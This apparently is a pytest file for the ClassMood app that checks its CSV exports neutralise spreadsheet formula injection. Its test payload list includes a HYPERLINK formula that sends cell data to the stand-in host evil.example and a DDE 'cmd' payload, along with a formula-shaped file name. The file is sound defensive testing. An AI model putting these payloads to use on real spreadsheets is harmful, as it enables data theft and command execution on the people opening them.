"""No CSV that ClassMood writes can carry a spreadsheet formula (OWASP "CSV injection").

A student who joins as ``=HYPERLINK(...)`` (or any text starting with ``+``, ``-``, ``@``, tab or carriage
return) is exported with a leading quote; the files are read back with Python's csv module. Numbers stay
numbers. The same rule holds for ``classmood analyze --format csv`` and its report's table, whose ``source``
column holds file names.
"""

from __future__ import annotations

import csv
import io
import time
import uuid
from pathlib import Path

import cv2
import pytest
from typer.testing import CliRunner

from classmood.benchmarks.server import astronaut_bgr
from classmood.cli import app as cli
from classmood.exports.csv_cells import FORMULA_STARTS, safe_cell

from .conftest import World, probs_of

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_the_export_neutralises_every_formula_and_keeps_numbers(world: World) -> None:
    names = {}
    for name in FORMULAS:
        header, participant_id = world.join(name)
        names[participant_id] = name
        body = {"observations": [{"id": str(uuid.uuid4()), "ts": time.time(), "probs": probs_of("Sad"), "score": 0.9}]}
        assert world.client.post(f"/api/sessions/{world.session_id}/observations", json=body,
                                 headers=header).status_code == 200
    response = world.client.get(f"/api/sessions/{world.session_id}/export.csv", headers=world.teacher_a)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert not any(_formula_like(cell) for cell in row.values()), row
        assert row["display_name"] == "'" + names[int(row["participant_id"])]  # shown as typed, never run
        assert 0.0 <= float(row["p_sad"]) <= 1.0 and float(row["ts"]) > 0 and float(row["score"]) == 0.9
    summary = world.client.get(f"/api/sessions/{world.session_id}/participants.csv", headers=world.teacher_a)
    assert summary.status_code == 200
    students = list(csv.DictReader(io.StringIO(summary.text)))
    assert {"'" + name for name in FORMULAS} <= {row["display_name"] for row in students}  # beside the world's
    assert not any(_formula_like(cell) for row in students for cell in row.values())


def test_analyze_csv_and_the_report_table_neutralise_file_names(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # a relative name: the source column starts with "="
    image = Path("=HYPERLINK(1).jpg")
    assert cv2.imwrite(str(image), astronaut_bgr())
    out = tmp_path / "faces.csv"
    report = tmp_path / "report"
    result = CliRunner().invoke(cli, ["analyze", str(image), "--format", "csv", "--output", str(out),
                                      "--report", str(report)])
    assert result.exit_code == 0, result.output
    for table in (out, report / "table.csv"):
        with table.open(newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert rows, table
        for row in rows:
            assert not any(_formula_like(cell) for cell in row.values()), (table, row)
            assert row["source"] == "'" + str(image)
            float(row["box_x"]), float(row["Happy"])  # numbers stay numbers


def test_only_text_is_quoted() -> None:
    assert [safe_cell(start + "x") for start in FORMULA_STARTS] == ["'" + start + "x" for start in FORMULA_STARTS]
    assert [safe_cell(v) for v in (-3.5, 0, None, "Ann", "a=b")] == [-3.5, 0, None, "Ann", "a=b"]
